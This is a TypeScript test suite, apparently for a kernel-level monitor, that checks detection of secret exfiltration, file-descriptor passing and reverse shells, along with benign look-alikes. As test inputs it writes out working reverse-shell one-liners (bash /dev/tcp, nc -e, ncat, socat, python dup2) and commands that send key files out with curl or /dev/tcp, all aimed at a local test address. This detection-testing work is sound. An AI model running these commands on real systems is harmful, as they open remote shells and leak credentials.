    expect(r.stdout.trim().split('\n').at(-1)).toBe('64');
    expect(ofKind(r.events, 'process.vm').filter((e) => e.syscall === 'process_vm_writev' && e.dir === 'out')).toHaveLength(1);
    expect(r.findings).toEqual([]);
  });

  it("another process' memory read with ptrace peeks (attach, PEEKDATA a word at a time, detach) and sent", async () => {
    const r = await h.run('ptrace-peek', ptraceScenario(key, tcp.port));
    expect(r.code, r.stderr).toBe(0);
    expect(Number(r.stdout.trim())).toBe(64);
    // sixteen peeks: the first at once, the other fifteen summed when the tracer detaches
    const peeks = ofKind(r.events, 'process.vm').filter((e) => e.syscall === 'ptrace.peekdata');
    expect(peeks.map((e) => e.ret)).toEqual([8, 120]);
    const f = only(r.findings);
    expect(f).toMatchObject({ rule: 'exfil.read-then-transmit', source: { path: key }, sink: { address: '127.0.0.2', port: tcp.port } });
    const [read, viaMemory, send] = [f.chain[0]!, f.chain.at(-2)!, f.chain.at(-1)!];
    expect(read).toMatchObject({ object: key, comm: 'python3' });
    expect(viaMemory).toMatchObject({ syscall: 'ptrace.peekdata', object: `memory of pid ${read.pid}`, fd: -1 });
    expect(viaMemory.pid).not.toBe(read.pid);
    expect(send).toMatchObject({ pid: viaMemory.pid, object: `socket 127.0.0.2:${tcp.port}` });
  });

  it('a DNS-style leak: part of the secret, hex-encoded, in one UDP datagram (sendto, no connection)', async () => {
    const r = await h.run('udp-leak', udpLeakScenario(key, 5353));
    expect(r.code).toBe(0);
    const f = only(r.findings);
    expect(f).toMatchObject({ rule: 'exfil.read-then-transmit', source: { path: key }, sink: { family: 'inet', address: '127.0.0.2', port: 5353 } });
    expect(f.chain.at(-1)).toMatchObject({ syscall: 'sendto', object: 'socket 127.0.0.2:5353' });
  });

  it('fork and exec: a child inheriting the fd sends; a shell that read the secret execs the sender', async () => {
    const child = await h.run('fork-inherit', `exec 3<${key}; ( cat <&3 > /dev/tcp/127.0.0.2/${tcp.port} )`);
    expect(child.code).toBe(0);
    expect(only(child.findings).source.path).toBe(key);
    const viaExec = await h.run('exec-sender', `x=$(cat ${key} | head -c 64); exec curl -s -m 10 --data "$x" ${url()} -o /dev/null`);
    expect(viaExec.code).toBe(0);
    const f = only(viaExec.findings);
    expect(f.process.comm).toBe('curl');
    expect(f.chain[0]!.comm).toBe('cat');
  });
});

describe('live: descriptors leaving the task (fd.passed-to-unwatched)', () => {
  it('a secret fd passed over a unix socket to a process outside the task', async () => {
    // the receiver runs in the test's own cgroup: not watched
    const sock = join(dir, 'outside.sock');
    const receiver = await outsideFdReceiver(sock);
    const r = await h.run(
      'fd-out',
      `python3 -c '
import os, socket, array
c = socket.socket(socket.AF_UNIX); c.connect("${sock}")
fd = os.open("${key}", os.O_RDONLY)
c.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [fd]))])
'`,
    );
    expect(r.code).toBe(0);
    expect(await receiver.exited).toBe(KEY_TEXT.length * 20); // the outsider really read the key through the descriptor
    const pids = new Set(r.events.map((e) => e.pid));
    const f = (await waitForFinding((x) => x.rule === 'fd.passed-to-unwatched' && pids.has(x.process.pid), 10_000))!;
    expect(() => Finding.parse(f)).not.toThrow();
    expect(f).toMatchObject({ category: 'exfiltration', source: { path: key, data_class: 'secret' }, sink: { family: 'unix', path: sock } });
    expect(f.chain[0]!.syscall).toBe('sendmsg(SCM_RIGHTS)');
  });

  it('descriptors passed by sendmmsg and taken by recvmmsg (control data the probe does not parse) are reported, the received one still resolves, and the calls count bytes', async () => {
    const r = await h.run('mmsg-rights', mmsgRightsScenario(key));
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout.trim()).toBe(`12 ${KEY_TEXT.length * 20}`);
    // the vector calls move bytes, not "2" (their return value counts messages)
    const vec = ofKind(r.events, 'io').filter((e) => e.syscall === 'sendmmsg' || e.syscall === 'recvmmsg');
    expect(vec.map((e) => [e.syscall, e.bytes, e.calls])).toEqual([
      ['sendmmsg', 12, 1],
      ['recvmmsg', 12, 1],
    ]);
    expect(ofKind(r.events, 'loss').map((l) => `${l.source}×${l.events}`)).toEqual(['sendmmsg.control×1', 'recvmmsg.control×1']);
    // the receiver's read names its object in the kernel: the state resolves the descriptor it never saw arrive
    const read = ofKind(r.events, 'io').find((e) => e.dir === 'in' && e.bytes === KEY_TEXT.length * 20)!;
    expect(read.res?.fd?.path).toBe(key);
  });

  it('must not fire: the descriptor is received inside the task (the SCM_RIGHTS chain above)', () => {
    const inTask = h.findings.filter((f) => f.rule === 'fd.passed-to-unwatched' && f.sink.path === join(dir, 'pass.sock'));
    expect(inTask).toEqual([]);
  });
});

/** Polls the session's findings (rules with an `absent` window report when the window ends). */
async function waitForFinding(pred: (f: Finding) => boolean, timeoutMs: number): Promise<Finding | undefined> {
  const until = Date.now() + timeoutMs;
  for (;;) {
    const hit = h.findings.find(pred);
    if (hit !== undefined || Date.now() > until) return hit;
    await new Promise((r) => setTimeout(r, 50));
  }
}

describe('live: reverse shells (shell.stdio-over-socket)', () => {
  let listener: Awaited<ReturnType<typeof shellListener>>;
  let port = 0;
  beforeAll(async () => {
    listener = await shellListener();
    port = listener.port;
  });
  afterAll(() => listener.close());

  const shellFinding = (findings: Finding[], rule = 'shell.stdio-over-socket'): Finding => {
    const shells = findings.filter((f) => f.rule === rule);
    expect(shells).toHaveLength(1);
    expect(() => Finding.parse(shells[0])).not.toThrow();
    expect(shells[0]).toMatchObject({ category: 'reverse-shell', severity: 'critical', sink: { family: 'inet', address: '127.0.0.2', port } });
    return shells[0]!;
  };

  it('bash -i >& /dev/tcp/127.0.0.2/PORT 0>&1', async () => {
    const r = await h.run('revshell-bash', `bash -i >& /dev/tcp/127.0.0.2/${port} 0>&1`);
    const f = shellFinding(r.findings);
    expect(f.process.comm).toBe('bash');
    expect(f.chain.every((hop) => hop.object === `socket 127.0.0.2:${port}`)).toBe(true);
  });

  it('nc -e /bin/sh 127.0.0.2 PORT (netcat-traditional: dup2 + exec)', async () => {
    const r = await h.run('revshell-nc', `nc.traditional -e /bin/sh 127.0.0.2 ${port}`);
    const f = shellFinding(r.findings);
    expect(f.chain.at(-1)).toMatchObject({ syscall: 'execve', object: '/bin/sh' });
  });

  it('ncat -e /bin/sh 127.0.0.2 PORT (nmap ncat)', async () => {
    const r = await h.run('revshell-ncat', `ncat -e /bin/sh 127.0.0.2 ${port}`);
    const f = shellFinding(r.findings, 'shell.relayed-from-socket');
    // ncat reads the socket, writes into a pipe, the shell reads that pipe as fd 0
    expect(f.chain.map((x) => x.comm)).toEqual(['ncat', 'ncat', 'sh']);
    expect(f.chain[0]!.object).toBe(`socket 127.0.0.2:${port}`);
    expect(f.chain.at(-1)).toMatchObject({ fd: 0 });
  });

  it('socat TCP:127.0.0.2:PORT EXEC:/bin/sh (the shell talks to a socketpair socat relays)', async () => {
    const r = await h.run('revshell-socat', `socat TCP:127.0.0.2:${port} EXEC:/bin/sh`);
    const f = shellFinding(r.findings, 'shell.relayed-from-socket');
    expect(f.chain[0]).toMatchObject({ comm: 'socat', object: `socket 127.0.0.2:${port}` });
    expect(f.chain.at(-1)).toMatchObject({ fd: 0 });
  });

  it('python: connect, dup2 the socket onto 0/1/2, exec /bin/sh', async () => {
    const r = await h.run(
      'revshell-python',
      `python3 -c 'import socket,os; s=socket.create_connection(("127.0.0.2",${port})); [os.dup2(s.fileno(),f) for f in (0,1,2)]; os.execv("/bin/sh",["sh","-i"])'`,
    );
    const f = shellFinding(r.findings);
    expect(f.chain[0]!.comm).toBe('python3');
  });

  it('must not fire: a shell that sends a file to a socket (one dup, no shell on it)', async () => {
    const r = await h.run('not-revshell', `cat ${join(dir, 'notes.txt')} > /dev/tcp/127.0.0.2/${port}; echo done`);
    expect(r.code).toBe(0);
    expect(r.findings).toEqual([]);
  });
});

describe('live: look-alikes that must not fire', () => {
  it('a local TLS server reads its own key and serves on a connection it accepted', async () => {
    const tls = join(dir, 'tls');
    const r = await h.run('tls-server', tlsServerScenario(tls, 20000 + (process.pid % 20000)));
    expect(r.code).toBe(0);
    expect(readFileSync(join(tls, 'got'), 'utf8')).toBe('ok');
    const keyRead = r.events.find((e) => e.kind === 'io' && e.dir === 'in' && e.res?.fd?.path === join(tls, 'server.key'));
    expect(keyRead, 'the server read its key').toBeDefined();
    expect(r.findings).toEqual([]);
    // the same key sent out on a connection the process opened is exfiltration
    const out = await h.run('tls-key-out', `curl -s -m 10 -T ${join(tls, 'server.key')} ${url()} -o /dev/null`);
    expect(only(out.findings)).toMatchObject({ rule: 'exfil.read-then-transmit', source: { path: join(tls, 'server.key'), data_class: 'tls-key' } });
  });

  it('download then write: curl -o out http://127.0.0.2:PORT/', async () => {
    const r = await h.run('download', `curl -s -m 10 -o ${join(dir, 'download.out')} ${url()}`);
    expect(r.code).toBe(0);
    expect(r.findings).toEqual([]);
  });

  it('reading a non-sensitive file and sending it', async () => {
    const r = await h.run('plain-upload', `curl -s -m 10 -T ${join(dir, 'notes.txt')} ${url()} -o /dev/null`);
    expect(r.code).toBe(0);
    expect(r.findings).toEqual([]);
  });

  it('mapping a non-sensitive file (and every shared library) and sending it', async () => {
    const r = await h.run('mmap-plain', mmapScenario(join(dir, 'notes.txt'), tcp.port));
    expect(r.code).toBe(0);
    expect(r.findings).toEqual([]);
    expect(r.events.some((e) => e.kind === 'io' && e.syscall === 'mmap' && e.res?.fd?.path === join(dir, 'notes.txt'))).toBe(true);
  });

  it('a file mapped shared and unmapped before the secret is read holds no secret: uploading it is quiet', async () => {
    const stage = join(dir, 'stage-unmapped.bin');
    const r = await h.run('shm-file-unmapped', sharedMemoryScenario(key, http.port, { mode: 'file', stage, unmapFirst: true }));
    expect(r.code, r.stderr).toBe(0);
    expect(r.findings).toEqual([]);
    // it was mapped, and unmapped, as seen by the probe
    const mapped = r.events.find((e) => e.kind === 'mem.map' && e.res?.fd?.path === stage);
    expect(mapped).toBeDefined();
    expect(r.events.some((e) => e.kind === 'mem.unmap' && e.pid === mapped!.pid && mapped!.kind === 'mem.map' && e.addr <= mapped!.addr)).toBe(true);
  });

  it('a process that comes into the watch from outside with a TCP connection and a socketpair made there: read from /proc at first sight, the secret sent on the connection is a finding, into the socketpair it is not', async () => {
    const cg = h.cgroup('moved-in');
    const procs = join(h.cgRoot, cg.path, 'cgroup.procs');
    // made before it moves into the watched cgroup: no probe sees the connection or the socketpair made
    const child = spawn('python3', ['-c', `
import os, socket, sys, time
s = socket.create_connection(("127.0.0.2", ${tcp.port}))
a, b = socket.socketpair()
sys.stdout.write("%d %d\\n" % (s.fileno(), b.fileno())); sys.stdout.flush()
open("${procs}", "w").write(str(os.getpid()))
d = open("${key}", "rb").read()
b.sendall(d)
a.recv(65536)
s.sendall(d)
# inherited descriptors live long (stdio, a log connection): chainwatch reads one from /proc as its first use arrives, a
# millisecond or so later; one closed and gone before then stays unnamed (counted in the session summary)
time.sleep(0.2)
s.close()
`], { stdio: ['ignore', 'pipe', 'inherit'] });
    let out = '';
    child.stdout!.on('data', (d: Buffer) => (out += d.toString()));
    const code = await new Promise<number | null>((r) => child.once('exit', (c) => r(c)));
    expect(code).toBe(0);
    const [sfd, bfd] = out.trim().split(' ').map(Number);
    await h.waitFor((e) => e.kind === 'process.exit' && e.pid === child.pid && e.group_dead, 15_000);
    await new Promise((r) => setTimeout(r, 400));
    const snaps = ofKind(h.events, "snapshot.fd").filter((e) => e.pid === child.pid);
    expect(snaps.map((e) => [e.fd, e.object_type, e.family])).toEqual(
      expect.arrayContaining([
        [sfd, 'socket', 'inet'],
        [bfd, 'socket', 'unix'],
      ]),
    );
    expect(snaps.find((e) => e.fd === sfd)).toMatchObject({ peer: { addr: '127.0.0.2', port: tcp.port } });
    const f = only(h.findings.filter((x) => x.process.pid === child.pid));
    expect(f).toMatchObject({ rule: 'exfil.read-then-transmit', source: { path: key }, sink: { address: '127.0.0.2', port: tcp.port } });
    expect(f.chain.at(-1)).toMatchObject({ fd: sfd, object: `socket 127.0.0.2:${tcp.port}` });
    // read whole from /proc at first sight, as at start: its command line too
    expect(ofKind(h.events, 'snapshot.process').find((e) => e.pid === child.pid)).toMatchObject({ argv: [expect.stringMatching(/python3$/), '-c', expect.any(String)] });
    expect(f.process.args?.slice(0, 2)).toEqual([expect.stringMatching(/python3$/), '-c']);
  });

  it('shared memory a child unmapped page by page before the secret was put there: its send is quiet (with a page left, it is not)', async () => {
    const all = await h.run('unmap-pieces', unmapPiecewiseScenario(key, tcp.port, true));
    expect(all.code, all.stderr).toBe(0);
    // (python3 unmaps memory of its own as it goes: once a process has a shared mapping, every munmap of it is seen)
    const map = all.events.find((e) => e.kind === 'mem.map' && e.fd === -1 && e.len === 8192);
    expect(map).toBeDefined();
    const at = map!.kind === 'mem.map' ? map!.addr : -1;
    const pieces = all.events.filter((e) => e.kind === 'mem.unmap' && e.addr >= at && e.addr < at + 8192);
    expect(pieces.map((e) => (e.kind === 'mem.unmap' ? [e.pid === map!.pid, e.addr - at, e.len] : []))).toEqual([
      [false, 4096, 4096],
      [false, 0, 4096],
    ]);
    expect(all.findings).toEqual([]);
    // the control: the child keeps one of the two pages, so what the parent puts there reaches it
    const kept = await h.run('unmap-one-piece', unmapPiecewiseScenario(key, tcp.port, false));
    expect(kept.code, kept.stderr).toBe(0);
    const f = only(kept.findings);
    expect(f.chain.map((x) => x.syscall)).toEqual(['read', 'mapped.write', 'mapped.read', 'sendto']);
  });

  it('System V shared memory holding nothing sensitive, sent by the process that attaches it later', async () => {
    const r = await h.run('sysv-shm-plain', sysvShmScenario(join(dir, 'notes.txt'), tcp.port, 0x43580000 + tcp.port));
    expect(r.code, r.stderr).toBe(0);
    expect(r.findings).toEqual([]);
    expect(r.events.filter((e) => e.kind === 'mem.map' && e.shmid !== undefined)).toHaveLength(2);
  });

  it('reading a secret and never sending anything', async () => {
    const r = await h.run('read-only', `cat ${key} > /dev/null; gzip -c < /etc/shadow > ${join(dir, 'shadow.gz')}`);
    expect(r.code).toBe(0);
    expect(r.findings).toEqual([]);
  });

  it('ssh-keygen -y style: read the private key, print a derived public key, no network', async () => {
    const r = await h.run('keygen-style', `python3 -c 'import hashlib; print(hashlib.sha256(open("${key}","rb").read()).hexdigest())'`);
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(/^[0-9a-f]{64}\n$/);
    expect(r.findings).toEqual([]);
  });
});

describe('replay of this run', () => {
  it('replaying the recording (watch --record) yields the same findings watch produced live', async () => {
    await h.close();
    const live = h.findings;
    expect(live.length).toBeGreaterThan(5);
    const replayed: Finding[] = [];
    const [summary] = await runReplay({ traces: [join(dir, 'flow.trace.jsonl.gz')], rulesDir: join(dir, 'rules'), onFinding: (f) => replayed.push(f) });
    expect(summary!.cut).toBeUndefined();
    expect(summary!.events).toBeGreaterThan(1000);
    // the same findings, each in its final state (first report and counter updates alike)
    const last = (fs: Finding[]): Map<string, Finding> => new Map(fs.map((f) => [f.id, f]));
    const counts = (fs: Finding[]): Record<string, number> => fs.reduce<Record<string, number>>((m, f) => ((m[f.id] = (m[f.id] ?? 0) + 1), m), {});
    expect(last(replayed)).toEqual(last(live));
    expect(counts(replayed)).toEqual(counts(live));
  }, 120_000);
});
